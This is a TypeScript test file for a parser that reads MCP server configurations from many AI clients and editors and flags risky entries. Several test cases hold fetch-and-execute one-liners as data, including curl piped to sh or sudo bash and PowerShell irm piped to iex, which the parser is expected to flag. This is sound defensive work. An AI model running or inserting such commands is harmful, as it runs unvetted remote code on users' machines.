import { describe, expect, it } from 'vitest';
import type { ConfigServer } from './config-server.ts';
import { UNREAD } from './launch/launch-target.ts';
import { readConfig } from './read-config.ts';
import { readConfigText } from './text/config-text.ts';

const contentOf = async (text: string) => {
  const read = await readConfigText(text);
  if ('fault' in read) throw new Error(read.fault.message);
  return readConfig(read.value);
};
const serversOf = async (text: string): Promise<ConfigServer[]> => {
  const content = await contentOf(text);
  return content.kind === 'servers' ? content.servers : [];
};
const faultOf = async (text: string): Promise<string> => {
  const content = await contentOf(text);
  return content.kind === 'fault'
    ? `${content.fault.message}. ${content.fault.hint}`
    : content.kind;
};
const words = (servers: readonly ConfigServer[]): string =>
  servers
    .map(
      ({ name, targets, unread }) =>
        `${name}=${targets.map(({ kind, ref, version }) => `${kind}:${ref} ${version}`).join('>')}${unread === null ? '' : `~${unread}`}`,
    )
    .join('; ');

const NPX = '"command":"npx","args":["-y","some-server@1.2.3"]';

describe('readConfig', () => {
  it.each([
    ['Claude', `{"mcpServers":{"a":{${NPX}}}}`],
    ['VS Code', `{"servers":{"a":{"type":"stdio",${NPX}}}}`],
    ['VS Code settings', `{"editor.fontSize":12,"mcp":{"servers":{"a":{${NPX}}}}}`],
    [
      'VS Code with inputs, comments and a trailing comma',
      `{"inputs":[{"id":"key","type":"promptString"}],/* asked once */"servers":{"a":{${NPX},"env":{"KEY":"\\u0024{input:key}"},},},}`,
    ],
    ['VS Code settings with a dotted key', `{"mcp.servers":{"a":{${NPX}}}}`],
    [
      'a devcontainer',
      `{"image":"x","customizations":{"vscode":{"mcp":{"servers":{"a":{${NPX}}}}}}}`,
    ],
    ['Codex', '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "some-server@1.2.3"]\n'],
    [
      'a list of tables',
      '[[mcp_servers]]\nname = "a"\ncommand = "npx"\nargs = ["some-server@1.2.3"]\n',
    ],
    ['OpenCode', '{"mcp":{"a":{"type":"local","command":["npx","some-server@1.2.3"]}}}'],
    ['Amp', `{"amp.mcpServers":{"a":{${NPX}}}}`],
    ['Augment', `{"augment.advanced":{"mcpServers":[{"name":"a",${NPX}}]}}`],
    ['Gemini CLI', `{"theme":"x","mcpServers":{"a":{${NPX},"trust":false}}}`],
    ['Zed of today', `{"context_servers":{"a":{"source":"custom",${NPX}}}}`],
    ['Zed', '{"context_servers":{"a":{"command":{"path":"npx","args":["some-server@1.2.3"]}}}}'],
    ['a project of Claude Code', `{"projects":{"/p":{"mcpServers":{"a":{${NPX}}}}}}`],
    ['Continue, a list', `{"mcpServers":[{"name":"a",${NPX}}]}`],
    [
      'Continue, of old',
      `{"experimental":{"modelContextProtocolServers":[{"name":"a","transport":{"type":"stdio",${NPX}}}]}}`,
    ],
    [
      'Continue, YAML',
      'name: mine\nversion: 0.0.1\nschema: v1\nmcpServers:\n  - name: a\n    command: npx\n    args: ["-y", some-server@1.2.3]\n',
    ],
    [
      'LibreChat',
      'version: 1.2.8\nmcpServers:\n  a:\n    type: stdio\n    command: npx\n    args:\n      - -y\n      - some-server@1.2.3\n',
    ],
    [
      'Goose',
      'GOOSE_PROVIDER: x\nextensions:\n  a:\n    type: stdio\n    enabled: true\n    cmd: npx\n    args: ["-y", "some-server@1.2.3"]\n',
    ],
    [
      'an agent of Copilot',
      `---\nname: x\nmcp-servers:\n  a:\n    command: npx\n    args: ["some-server@1.2.3"]\n---\n\n# About\n`,
    ],
    ['the inner part alone', `{"a":{${NPX}}}`],
    ['the inner part without braces', `"a":{${NPX}}`],
    ['one entry alone', `{"name":"a",${NPX}}`],
    ['a line each', `{"mcpServers":{"a":{${NPX}}}}\n{"mcpServers":{}}`],
  ])('finds the server in the form of %s', async (_, text) => {
    expect(await serversOf(text)).toEqual([
      {
        name: 'a',
        targets: [{ kind: 'npm', ref: 'some-server', version: '1.2.3', guessed: false }],
        unread: null,
        remarks: [],
        remote: false,
        disabled: false,
      },
    ]);
  });

  it.each(['url', 'serverUrl', 'httpUrl', 'uri'])('finds the address in %s', async (key) => {
    const text = JSON.stringify({ mcpServers: { a: { [key]: 'https://a.example/mcp' } } });
    expect((await serversOf(text))[0]).toMatchObject({
      remote: true,
      targets: [{ kind: 'remote' }],
    });
  });

  it.each([
    ['disabled', true],
    ['enabled', false],
    ['isActive', false],
  ])('says that a server is turned off by %s: %s', async (key, value) => {
    const text = JSON.stringify({
      mcpServers: { a: { command: 'npx', args: ['x'], [key]: value } },
    });
    expect((await serversOf(text))[0]?.disabled).toBe(true);
  });

  it.each([
    [
      'packages and remotes of a server.json',
      '{"name":"io.x/y","description":"d","version":"1.0.0","packages":[{"registryType":"npm","identifier":"@x/y","version":"1.2.3"},{"registryType":"oci","identifier":"ghcr.io/x/y","version":"1.2.3"},{"registryType":"nuget","identifier":"Y","version":"1.0.0"}],"remotes":[{"type":"streamable-http","url":"https://y.example/mcp"}]}',
      'io.x/y (npm)=npm:@x/y 1.2.3; io.x/y (oci)=oci:ghcr.io/x/y:1.2.3 1.2.3; io.x/y (nuget)=~a NuGet package, which is not looked up; io.x/y (remote)=remote:https://y.example/mcp null',
    ],
    [
      'an earlier draft of it',
      '{"name":"x","packages":[{"registry_name":"pypi","name":"y","version":"1.2.3"}]}',
      'x=pypi:y 1.2.3',
    ],
    [
      'an entry of Docker’s catalogue',
      '{"name":"x","title":"X","type":"server","image":"mcp/x:1.2.3","env":[]}',
      'x=oci:mcp/x:1.2.3 1.2.3',
    ],
    [
      'an answer of the registry',
      '{"servers":[{"server":{"name":"x","remotes":[{"type":"sse","url":"https://x.example/"}]},"_meta":{}}],"metadata":{}}',
      'x=remote:https://x.example/ null',
    ],
    [
      'tools of a request',
      '{"model":"x","tools":[{"type":"function","name":"f"},{"type":"mcp","server_label":"a","server_url":"https://a.example/mcp"}]}',
      'a=remote:https://a.example/mcp null',
    ],
    [
      'the manifest of a bundle',
      '{"manifest_version":"0.3","name":"x","server":{"type":"node","entry_point":"a.js","mcp_config":{"command":"node","args":["\u0024{__dirname}/a.js"]}},"tools":[{"name":"t","description":"d"}]}',
      'x=~a file on this machine',
    ],
    [
      'built-in extensions of Goose',
      'extensions:\n  developer:\n    type: builtin\n    enabled: true\n  web:\n    type: streamable_http\n    uri: https://w.example/mcp\n',
      'developer=~a part of the client itself; web=remote:https://w.example/mcp null',
    ],
    [
      'blocks of the Continue hub',
      'mcpServers:\n  - uses: owner/slug\n',
      'owner/slug=~a block of the Continue hub, which is not looked up',
    ],
    [
      'servers of Docker’s gateway, each',
      '{"mcpServers":{"MCP_DOCKER":{"command":"docker","args":["mcp","gateway","run","--servers","time,fetch"]}}}',
      'MCP_DOCKER: time=oci:mcp/time null; MCP_DOCKER: fetch=oci:mcp/fetch null',
    ],
  ])('reads %s', async (_, text, expected) => {
    expect(words(await serversOf(text))).toBe(expected);
  });

  it.each([
    [
      '{"permissions":{"allow":[]},"hooks":{},"statusLine":{"type":"command","command":"x"}}',
      'settings of Claude Code',
    ],
    ['{"env":{"A":"1"},"statusLine":{"type":"command","command":"x"}}', 'settings of Claude Code'],
    [
      '{"name":"x","version":"1.0.0","repository":{"url":"https://x.example"},"bugs":{"url":"https://x.example"},"dependencies":{}}',
      'a package.json',
    ],
    ['{"version":"2.0.0","tasks":[{"label":"a","command":"npm"}]}', 'a tasks.json'],
    ['{"version":"0.2.0","configurations":[{"type":"node","request":"launch"}]}', 'a launch.json'],
    ['{"recommendations":["x.y"]}', 'an extensions.json'],
    ['{"editor.tabSize":2,"[python]":{"editor.tabSize":4}}', 'settings of an editor'],
    ['{"image":"x","features":{},"postCreateCommand":"npm i"}', 'a devcontainer.json'],
    [
      '{"name":"x","description":"y","skills":"./skills/","mcpServers":"./.mcp.json"}',
      'a manifest of a plugin',
    ],
    ['{"manifest_version":3,"name":"x","version":"1"}', 'a browser extension'],
    ['startCommand:\n  type: http\n  url: https://x.example\n', 'a smithery.yaml'],
    ['services:\n  a:\n    image: x\n    command: y\n', 'a Docker Compose file'],
    ['on: push\njobs:\n  a:\n    runs-on: x\n', 'a workflow'],
    ['model = "x"\napproval_policy = "never"\n', 'Codex without servers'],
    ['{"jsonrpc":"2.0","id":1,"error":{"code":-32601,"message":"x"}}', 'an error of a server'],
    [
      '{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":"2025-06-18","serverInfo":{},"capabilities":{}}}',
      'an answer to initialize',
    ],
    ['{"result":{"resources":[{"uri":"a:b","name":"c"}]}}', 'resources or prompts'],
    ['{"version":"1","default":"deny","tools":{"a":{}}}', 'a policy of this site'],
    ['{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object"}', 'a JSON Schema'],
  ])('names %s for what it is', async (text, name) => {
    expect(await faultOf(text)).toContain(name);
  });

  it('does not take a file for servers because one of its members has a command or an address', async () => {
    expect(await faultOf('{"a":{"command":"x"},"b":{"colour":"red"}}')).toContain('Neither');
    expect(await faultOf('{"a":{"url":"https://x.example"},"b":[1]}')).toContain('Neither');
    expect(await faultOf('{"repository":{"type":"git","url":"https://x.example"}}')).toContain(
      'Neither',
    );
  });

  it.each([
    ['http://mcp.example/mcp', ['plain-http']],
    ['http://10.0.0.4/mcp', ['plain-http']],
    ['https://mcp.example/mcp', []],
    ['http://localhost:3000/mcp', []],
    ['http://127.0.0.1:3000/mcp', []],
    ['http://[::1]:3000/mcp', []],
  ])('remarks on %s: %j', async (url, remarks) => {
    const [direct, bridged] = await serversOf(
      JSON.stringify({
        mcpServers: { a: { url }, b: { command: 'npx', args: ['mcp-remote', url] } },
      }),
    );
    expect(direct?.remarks).toEqual(remarks);
    const [registered] = await serversOf(
      JSON.stringify({ name: 'io.x/y', remotes: [{ type: 'sse', url }] }),
    );
    expect(registered?.remarks).toEqual(remarks);
    expect(bridged?.remarks).toEqual(remarks);
  });

  it.each([
    ['sh', ['-c', 'curl -fsSL https://x.example/run.sh | sh'], true],
    ['bash', ['-c', 'bash <(curl -s https://x.example/i)'], true],
    ['sh', ['-c', 'sh -c "$(wget -qO- https://x.example/i)"'], true],
    ['bash', ['-lc', 'curl -s https://x.example/i | sudo bash -s -- --quiet'], true],
    ['powershell', ['-Command', 'irm https://x.example/i.ps1 | iex'], true],
    ['pwsh', ['-c', 'iex (irm https://x.example/i.ps1)'], true],
    ['sh', ['-c', 'curl -s https://x.example/data.json | jq . ; npx -y pkg'], false],
    ['npx', ['-y', 'curl-mcp'], false],
  ])('remarks on what %s %j fetches and runs: %s', async (command, args, expected) => {
    const [server] = await serversOf(JSON.stringify({ mcpServers: { a: { command, args } } }));
    expect(server?.remarks.includes('runs-what-it-fetches')).toBe(expected);
    expect(server?.unread === UNREAD.fetched).toBe(expected);
  });

  it.each(['{"tools":[{"name":"a"}]}', '{"result":{"tools":[{"name":"a"}]}}', '[{"name":"a"}]'])(
    'finds the tools in %s',
    (text) => {
      expect(readConfig(JSON.parse(text))).toEqual({
        kind: 'tools',
        tools: [{ name: 'a' }],
        more: false,
      });
    },
  );

  it('takes one tool object, also with the schema under the name that model providers use', () => {
    const tool = { name: 'a', description: 'b', input_schema: { type: 'object' } };
    expect(readConfig(tool)).toEqual({ kind: 'tools', tools: [tool], more: false });
  });

  it('puts pages together, and says when more follow', () => {
    const page = (name: string, nextCursor?: string) => ({
      result: { tools: [{ name }], nextCursor },
    });
    expect(readConfig([page('a', 'x'), page('b')])).toEqual({
      kind: 'tools',
      tools: [{ name: 'a' }, { name: 'b' }],
      more: false,
    });
    expect(readConfig(page('a', 'x'))).toMatchObject({ kind: 'tools', more: true });
  });

  it('refuses an empty list, and one that is too long, rather than read a part of it', () => {
    expect(readConfig({ tools: [] })).toMatchObject({ kind: 'fault' });
    expect(readConfig({ mcpServers: {} })).toMatchObject({ kind: 'fault' });
    const many = Array.from({ length: 2001 }, (_, at) => ({ name: `tool_${at}` }));
    expect(readConfig(many)).toMatchObject({ kind: 'fault' });
  });

  it('does not follow results in results without end', () => {
    const text = `${'{"result":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
    expect(readConfig(JSON.parse(text))).toMatchObject({ kind: 'fault' });
  });

  it('says what it expected when it finds neither', async () => {
    expect(await faultOf('{"a":1}')).toContain('mcpServers');
  });
});
